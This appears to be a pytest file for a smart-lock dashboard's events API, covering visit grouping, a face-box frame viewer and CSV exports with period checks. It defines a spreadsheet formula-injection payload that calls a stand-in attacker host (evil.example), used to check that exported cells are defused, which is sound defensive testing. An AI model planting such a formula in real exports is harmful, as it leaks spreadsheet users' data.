"""The Events page's API: unlocks grouped per visit, the frame viewer's faces, and the CSV exports (timeline,
door audit against a real signed door, user activity), each refusing bad periods with a 400."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from smartlock.door.client import DoorClient
from smartlock.engine.files import write_unlock_frame
from smartlock.web.app import create_app
from smartlock.web.clients import DOOR_PAGE, door_audit
from smartlock.web.events import VISIT_GAP, EventStore, group_visits
from smartlock.web.exports import activity_csv, cell, parse_period
from smartlock.web.routes.guards import CSRF_HEADER
from tests.door.helpers import door_server
from tests.support import uvicorn_server, wait_for
from tests.web.conftest import WEBHOOK_TOKEN, System
from tests.web.fakes import jpeg

T0 = datetime(2026, 11, 29, 10, 31, 0, tzinfo=UTC).timestamp()
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AWKWARD = 'Gore, "Al"\nJr.'


@pytest.fixture
def store(tmp_path: Path) -> Iterator[EventStore]:
    events = EventStore(tmp_path / "events")
    yield events
    events.close()


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- visits -------------------------------------------------------------------------------------------


def test_a_looping_visitor_is_one_visit_row_and_every_unlock_is_kept(store: EventStore) -> None:
    for i in range(20):  # 20 unlocks in 3 minutes and 10 s
        store.add("unlock", "Al Gore", 0.9 + i / 1000, when=T0 + 10 * i)
    store.add("stranger", None, 0.1, when=T0 + 400)
    for i in range(3):  # after the stranger: a new visit
        store.add("unlock", "Al Gore", 0.9, when=T0 + 410 + 20 * i)
    store.add("unlock", "Al Gore", 0.9, when=T0 + 470 + VISIT_GAP + 1)  # more than 5 min later: new visit

    rows, next_before = store.visits(limit=50)
    assert next_before is None
    shape = [(row.newest.kind, len(row.events)) for row in rows]
    assert shape == [("unlock", 1), ("unlock", 3), ("stranger", 1), ("unlock", 20)]
    visit = rows[-1].to_api()["visit"]
    assert visit["count"] == 20 and visit["first_time"] == T0 and visit["last_time"] == T0 + 190
    assert [u["time"] for u in visit["unlocks"]] == [T0 + 10 * i for i in range(19, -1, -1)]
    assert rows[0].to_api()["visit"] is None  # a single unlock is a plain row
    assert len(store.list(limit=500)) == 25  # nothing merged in the store


def test_visits_split_by_person_and_door_and_pages_never_cut_a_visit(store: EventStore) -> None:
    store.add("unlock", "ada", 0.9, when=T0)
    store.add("unlock", "ada", 0.9, when=T0 + 5, details={"door": "back"})  # another door
    store.add("unlock", "bob", 0.9, when=T0 + 10)
    store.add("unlock", "ada", 0.9, when=T0 + 15)
    assert [len(v.events) for v in group_visits(store.list())] == [1, 1, 1, 1]

    for i in range(450):  # a visit longer than a page of rows (the store reads 200 at a time)
        store.add("unlock", "cy", 0.9, when=T0 + 100 + i)
    store.add("lock", when=T0 + 600)
    rows, next_before = store.visits(limit=2)
    assert [(r.newest.kind, len(r.events)) for r in rows] == [("lock", 1), ("unlock", 450)]
    assert next_before == rows[-1].oldest.id
    rest, end = store.visits(limit=50, before=next_before)
    assert [(r.newest.person, len(r.events)) for r in rest] == [
        ("ada", 1), ("bob", 1), ("ada", 1), ("ada", 1)]
    assert end is None
    only_cy, _ = store.visits(person="cy")
    assert [len(r.events) for r in only_cy] == [450]


def test_the_api_groups_visits_on_request(system: System) -> None:
    for i in range(7):
        system.dashboard.events.add("unlock", "Al Gore", 0.93, when=T0 + 60 * i)
    client = system.client()
    plain = client.get("/api/events").json()
    assert len(plain["events"]) == 7 and "visit" not in plain["events"][0]
    grouped = client.get("/api/events", params={"group": "visits", "kind": "unlock"}).json()
    assert len(grouped["events"]) == 1 and grouped["next_before"] is None
    visit = grouped["events"][0]["visit"]
    assert visit["count"] == 7 and (visit["first_time"], visit["last_time"]) == (T0, T0 + 360)
    answer = client.get("/api/events", params={"group": "people"})
    assert answer.status_code == 400 and "group" in answer.json()["message"]
    assert system.client(signed_in=False).get("/api/events?group=visits").status_code == 401


# -- the frame viewer ---------------------------------------------------------------------------------


def test_the_frame_viewer_gets_each_face_with_its_box_name_and_liveness(system: System) -> None:
    faces = [
        {"top_prediction": {"label": "ada", "confidence": 0.97}, "liveness": {"live": True, "score": 0.91},
         "bounding_box": {"left": 40.0, "top": 30.0, "right": 120.0, "bottom": 130.0}},
        {"top_prediction": {"label": "unknown", "confidence": 0.2},
         "bounding_box": {"left": 400.0, "top": 50.0, "right": 480.0, "bottom": 150.0}},
    ]
    folder = write_unlock_frame(system.tmp / "log", jpeg(640, 360), {"faces": faces})
    hook = system.client(signed_in=False)
    answer = hook.post("/hooks/engine", headers={"Authorization": f"Bearer {WEBHOOK_TOKEN}"}, json={
        "event": "unlocked", "time": datetime.now(UTC).isoformat(), "person": "ada", "confidence": 0.97,
        "frame_dir": folder.name})
    event_id = answer.json()["id"]
    client = system.client()
    event = wait_for(lambda: client.get("/api/events").json()["events"][0]["faces"] and
                     client.get("/api/events").json()["events"][0])
    marks = client.get(event["faces"]).json()
    assert (marks["width"], marks["height"]) == (640, 360)
    assert [(f["label"], f["confidence"], f["box"]["left"], f.get("liveness")) for f in marks["faces"]] == [
        ("ada", 0.97, 40.0, {"live": True, "score": 0.91}), ("unknown", 0.2, 400.0, None)]
    assert "liveness" not in marks["faces"][1]
    assert client.get(f"/api/events/{event_id + 100}/faces").status_code == 404
    assert client.get("/api/events/99999999999999999999999/faces").status_code == 422
    assert system.client(signed_in=False).get(event["faces"]).status_code == 401


# -- CSV ----------------------------------------------------------------------------------------------


def test_csv_cells_are_defused_and_escaped() -> None:
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert cell(formula).startswith("'") and cell(formula)[1:] == formula
    assert (cell("Al Gore"), cell(None), cell(0.5), cell(True)) == ("Al Gore", "", "0.5", "true")


@pytest.mark.parametrize(("since", "until", "problem"), [
    ("yesterday", None, "since must be an ISO 8601"),
    (None, "2026-13-01", "until must be an ISO 8601"),
    ("2026-11-29T12:00:00Z", "2026-11-29T11:00:00Z", "until must be later than since"),
    ("2026-11-29", "2026-11-29T00:00:00", "until must be later than since"),
])
def test_bad_periods_are_refused_with_a_message(system: System, since, until, problem) -> None:
    client = system.client()
    params = {k: v for k, v in (("since", since), ("until", until)) if v is not None}
    for path in ("/api/events.csv", "/api/door-audit.csv", "/api/audit.csv"):
        answer = client.get(path, params=params)
        assert answer.status_code == 400, (path, answer.text)
        assert problem in answer.json()["message"]
    with pytest.raises(Exception, match="since"):
        parse_period("29/11/2026", None)


def test_the_timeline_export_has_every_unlock_of_the_period(system: System) -> None:
    events = system.dashboard.events
    events.add("unlock", "before", 0.9, when=T0 - 86400)
    for i in range(30):
        events.add("unlock", "Al Gore", 0.9, when=T0 + 10 * i, details={"frames": 2})
    events.add("unlock", EVIL, 0.91, when=T0 + 400)
    events.add("sighting", AWKWARD, 0.6, when=T0 + 401)
    events.add("unlock", "after", 0.9, when=T0 + 86400)
    client = system.client()
    answer = client.get("/api/events.csv", params={"since": "2026-11-29", "until": "2026-11-29"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert "attachment" in answer.headers["content-disposition"]
    rows = rows_of(answer.text)
    assert rows[0] == ["id", "time", "last_time", "kind", "person", "confidence", "count", "door", "details"]
    body = rows[1:]
    assert len(body) == 32 and [r[4] for r in body].count("Al Gore") == 30
    assert body[0][1] == "2026-11-29T10:31:00.000Z" and body[0][5] == "0.9"
    assert body[0][8] == '{"frames": 2}'
    assert body[30][4] == "'" + EVIL  # a formula stays text
    assert body[31][4] == AWKWARD  # commas, quotes and a line break survive the round trip
    narrow = rows_of(client.get("/api/events.csv", params={
        "since": "2026-11-29T10:31:05Z", "until": "2026-11-29T10:31:25Z"}).text)
    assert [r[1] for r in narrow[1:]] == ["2026-11-29T10:31:10.000Z", "2026-11-29T10:31:20.000Z"]
    assert len(rows_of(client.get("/api/events.csv").text)) == 35  # no period: everything
    stranger = system.client(signed_in=False)
    for path in ("/api/events.csv", "/api/door-audit.csv", "/api/audit.csv"):
        refused = stranger.get(path, params={"since": "2020-01-01"})
        assert refused.status_code == 401 and "Al Gore" not in refused.text and "id,time" not in refused.text


def test_the_door_audit_export_reads_a_real_signed_door(system: System, tmp_path: Path) -> None:
    with door_server(tmp_path / "door") as door:
        client_of_door = DoorClient(door.url + "/unlock", door.secret, timeout=5.0, tries=1)
        system.dashboard.door = client_of_door
        try:
            client_of_door.unlock(person=EVIL, confidence=0.93, source="engine")
            client_of_door.unlock(person=AWKWARD, confidence=0.9, source="engine")
            assert door.http.get("/status").status_code == 401  # a refusal, audited too
            client = system.client()
            answer = client.get("/api/door-audit.csv", params={"since": "2020-01-01"})
            assert answer.status_code == 200, answer.text
            rows = rows_of(answer.text)
            assert rows[0][:4] == ["id", "time", "action", "outcome"]
            unlocks = [r for r in rows[1:] if r[2] == "unlock" and r[3] == "accepted"]
            assert [r[10] for r in unlocks] == ["'" + EVIL, AWKWARD]
            assert any(r[2] == "status" and r[3] == "refused" for r in rows[1:])
            assert all(r[1].endswith("Z") and "T" in r[1] for r in rows[1:])
            ids = [int(r[0]) for r in rows[1:]]
            assert ids == sorted(ids)  # oldest first
            future = rows_of(client.get("/api/door-audit.csv", params={"since": "2999-01-01"}).text)
            assert future == [rows[0]]
        finally:
            client_of_door.close()


class PagedDoor:
    """A door audit of ``n`` rows a second apart, answered page by page like the door's GET /events."""

    def __init__(self, n: int) -> None:
        self.rows = [{"id": i, "time": datetime.fromtimestamp(T0 + i, UTC).isoformat(), "action": "unlock",
                      "outcome": "accepted"} for i in range(1, n + 1)]
        self.calls = 0

    def events(self, limit: int = 50, before: int | None = None) -> dict:
        self.calls += 1
        page = [r for r in reversed(self.rows) if before is None or r["id"] < before][:limit]
        return {"events": page, "next_before": page[-1]["id"] if len(page) == limit else None}


def test_the_door_audit_is_read_page_by_page_and_stops_at_the_period() -> None:
    door = PagedDoor(3 * DOOR_PAGE + 7)
    rows = door_audit(door, since=T0 + 100, until=T0 + 1400)
    assert [r["id"] for r in rows] == list(range(100, 1400))
    assert door.calls == 3  # stopped at the first row older than since (on the third page)
    everything = PagedDoor(1200)
    assert len(door_audit(everything)) == 1200
    assert len(door_audit(PagedDoor(1200), max_rows=10)) == 10


@pytest.fixture
def activity(system: System) -> Iterator[tuple[httpx.Client, Callable[..., None]]]:
    """A signed-in client of a dashboard with the users' audit, GET /api/audit (built elsewhere), and a
    function adding an action to it: the dashboard's own audit when it has one, else a stand-in with the
    documented shape and parameters on a second app over the same collaborators (and sessions)."""
    signed_in = system.client()
    if signed_in.get("/api/audit").status_code == 200:
        log = system.dashboard.audit  # type: ignore[attr-defined]
        yield signed_in, lambda user, action, details, when: log.record(user, action, details, when=when)
        return
    actions: list[dict] = []
    app = create_app(system.dashboard)

    async def audit(since: float | None = None, until: float | None = None, limit: int = 100) -> dict:
        chosen = [a for a in actions if (since is None or a["time"] >= since) and
                  (until is None or a["time"] <= until)]
        return {"actions": sorted(chosen, key=lambda a: -a["id"])[:limit]}

    def add(user: str, action: str, details: dict, when: float) -> None:
        actions.append({"id": len(actions) + 1, "time": when, "user": user, "action": action,
                        "details": details})

    app.add_api_route("/api/audit", audit, methods=["GET"])
    with uvicorn_server(app) as url, httpx.Client(base_url=url, headers={CSRF_HEADER: "1"},
                                                  cookies=signed_in.cookies, timeout=10) as client:
        yield client, add


def test_the_activity_export_follows_the_audit_shape(system: System, activity) -> None:
    client, add = activity
    add("admin", "enroll", {"person": "old"}, T0 - 86400)
    add("admin", "enroll", {"person": EVIL}, T0)
    add("@reception", "lock", {"note": AWKWARD}, T0 + 60)
    answer = client.get("/api/audit.csv", params={"since": "2026-11-29"})
    assert answer.status_code == 200, answer.text
    header, *rows = rows_of(answer.text)
    assert header == ["id", "time", "user", "action", "details"]
    rows = [header] + [r for r in rows if r[3] != "sign-in"]  # the test's own sign-in is audited too
    assert [r[3] for r in rows[1:]] == ["enroll", "lock"]
    assert rows[1][1] == "2026-11-29T10:31:00.000Z" and rows[2][1] == "2026-11-29T10:32:00.000Z"
    assert json.loads(rows[1][4]) == {"person": EVIL}  # JSON text: starts with {, nothing to defuse
    assert rows[2][2] == "'@reception" and json.loads(rows[2][4]) == {"note": AWKWARD}
    assert system.client(signed_in=False).get("/api/audit.csv").status_code == 401


def test_activity_rows_with_iso_times_and_text_details_are_exported() -> None:
    text = activity_csv([{"id": 7, "time": "2026-11-29T11:31:00+01:00", "user": "ada", "action": "remove",
                          "details": "-rf"}])
    assert rows_of(text)[1] == ["7", "2026-11-29T10:31:00.000Z", "ada", "remove", "'-rf"]


def test_the_events_page_has_the_viewer_visits_exports_and_activity(system: System) -> None:
    client = system.client()
    script = client.get("/static/events.js").text
    html = client.get("/static/events.html").text
    for needed in ("group: \"visits\"", "/api/audit?", "Escape", "liveness", "aria-expanded"):
        assert needed in script, needed
    for needed in ("/api/events.csv", "/api/door-audit.csv", "/api/audit.csv", 'id="since"', 'id="until"',
                   "Activity", 'role="dialog"', "viewer-close"):
        assert needed in html, needed
